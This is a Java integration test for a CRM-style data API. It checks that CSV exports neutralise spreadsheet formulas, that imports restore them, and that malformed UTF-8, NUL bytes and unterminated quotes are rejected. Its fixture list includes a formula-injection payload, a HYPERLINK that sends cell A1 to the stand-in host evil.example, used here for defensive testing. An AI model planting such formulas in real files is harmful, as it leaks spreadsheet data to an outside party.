package io.pareto.dataio;

import static io.pareto.dataio.DataioFixtures.importCsv;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.pareto.security.Role;
import io.pareto.support.Api;
import io.pareto.support.TestUsers;
import io.pareto.support.TestUsers.TestUser;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * CSV exports defuse spreadsheet formulas and imports restore them; undecodable or broken files are
 * refused.
 */
@QuarkusTest
class CsvSafetyTest {
  @Inject TestUsers users;

  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
          "+1+2",
          "-3+4",
          "@SUM(A1:A9)",
          "'=already quoted");

  @Test
  void csvExportNeutralisesFormulasNdjsonKeepsThemAndTheImportRestoresThem() {
    TestUser rep = users.create(Role.REP);
    String p = DataioFixtures.prefix();
    // Stored through the JSON import, which takes every value literally.
    List<Map<String, String>> rows = new ArrayList<>();
    for (int i = 0; i < FORMULAS.size(); i++)
      rows.add(Map.of("externalId", p + i, "name", FORMULAS.get(i)));
    rows.add(Map.of("externalId", p + "9", "name", "平安银行 = 客户"));
    Api.as(rep)
        .body(rows)
        .post("/api/v1/imports/accounts")
        .then()
        .statusCode(200)
        .body("created", equalTo(FORMULAS.size() + 1));

    String export =
        Api.as(rep)
            .accept("text/csv")
            .queryParam("q", p)
            .get("/api/v1/exports/accounts")
            .then()
            .statusCode(200)
            .extract()
            .asString();
    // Every exported cell with a formula character in front now starts with an apostrophe; the rest
    // is untouched.
    assertTrue(
        export.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","),
        export);
    assertTrue(export.contains(",'+1+2,"), export);
    assertTrue(export.contains(",'-3+4,"), export);
    assertTrue(export.contains(",'@SUM(A1:A9),"), export);
    assertTrue(export.contains(",''=already quoted,"), export);
    assertTrue(export.contains(",平安银行 = 客户,"), export);
    for (String line : export.split("\r\n")) {
      String name = line.split(",")[1];
      assertTrue(
          !name.startsWith("=")
              && !name.startsWith("+")
              && !name.startsWith("-")
              && !name.startsWith("@"),
          line);
    }

    String ndjson =
        Api.as(rep)
            .accept("*/*")
            .queryParam("format", "ndjson")
            .queryParam("q", p)
            .get("/api/v1/exports/accounts")
            .then()
            .statusCode(200)
            .extract()
            .asString();
    assertTrue(
        ndjson.contains("\"name\":\"+1+2\"") && ndjson.contains("\"name\":\"'=already quoted\""),
        ndjson);

    // The export imported back changes nothing: each value is restored exactly.
    importCsv(rep, "accounts", export)
        .statusCode(200)
        .body("unchanged", equalTo(FORMULAS.size() + 1))
        .body("updated", equalTo(0));
    Api.as(rep)
        .queryParam("q", p)
        .queryParam("sort", "externalId")
        .queryParam("size", 50)
        .get("/api/v1/accounts")
        .then()
        .statusCode(200)
        .body(
            "items.name",
            contains(
                FORMULAS.get(0),
                FORMULAS.get(1),
                FORMULAS.get(2),
                FORMULAS.get(3),
                FORMULAS.get(4),
                "平安银行 = 客户"));
  }

  private static byte[] bytes(String before, byte[] middle, String after) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(before.getBytes(StandardCharsets.UTF_8));
    out.writeBytes(middle);
    out.writeBytes(after.getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  private static io.restassured.response.ValidatableResponse importBytes(TestUser as, byte[] body) {
    return Api.as(as)
        .contentType("text/csv; charset=UTF-8")
        .body(body)
        .post("/api/v1/imports/accounts")
        .then();
  }

  @Test
  void invalidUtf8AndNulBytesAreRowErrorsNamingRowAndColumn() {
    TestUser rep = users.create(Role.REP);
    String p = DataioFixtures.prefix();
    // Row 2's name holds a lone continuation byte and a truncated 3-byte sequence; row 3's region a
    // NUL;
    // row 1 has a real 4-byte character (a surrogate pair in Java) that must pass.
    byte[] body =
        bytes(
            "externalId,name,region\n" + p + "1,\uD840\uDC0B 集团,华东\n" + p + "2,坏",
            new byte[] {(byte) 0x80, ' ', (byte) 0xE5, (byte) 0x8D},
            ",华南\n" + p + "3,好的,华" + "\0" + "北\n");
    importBytes(rep, body)
        .statusCode(422)
        .contentType(containsString("application/problem+json"))
        .body("rowErrors", hasSize(2))
        .body("rowErrors[0].rowNumber", equalTo(2))
        .body("rowErrors[0].column", equalTo("name"))
        .body("rowErrors[0].code", equalTo("NOT_UTF8"))
        .body("rowErrors[1].rowNumber", equalTo(3))
        .body("rowErrors[1].column", equalTo("region"))
        .body("rowErrors[1].code", equalTo("NUL_CHARACTER"));
    Api.as(rep)
        .queryParam("q", p)
        .get("/api/v1/accounts")
        .then()
        .statusCode(200)
        .body("total", equalTo(0));
    // Without the bad rows, the 4-byte character is stored as sent.
    importBytes(rep, bytes("externalId,name\n" + p + "1,\uD840\uDC0B 集团\n", new byte[0], ""))
        .statusCode(200);
    Api.as(rep)
        .queryParam("q", p)
        .get("/api/v1/accounts")
        .then()
        .body("items[0].name", equalTo("\uD840\uDC0B 集团"));
  }

  @Test
  void anUnterminatedQuoteAtTheEndIsAFileErrorAndNothingIsWritten() {
    TestUser rep = users.create(Role.REP);
    String p = DataioFixtures.prefix();
    String csv = "externalId,name,region\n" + p + "1,甲,华东\n" + p + "2,乙,\"华南\n" + p + "3,丙,华北\n";
    importCsv(rep, "accounts", csv)
        .statusCode(422)
        .contentType(containsString("application/problem+json"))
        .body("rowErrors", hasSize(1))
        .body("rowErrors[0].rowNumber", equalTo(2))
        .body("rowErrors[0].column", equalTo("region"))
        .body("rowErrors[0].code", equalTo("UNTERMINATED_QUOTE"));
    Api.as(rep)
        .queryParam("q", p)
        .get("/api/v1/accounts")
        .then()
        .statusCode(200)
        .body("total", equalTo(0));
    assertEquals(422, importCsv(rep, "accounts", "externalId,\"name\n").extract().statusCode());
  }
}
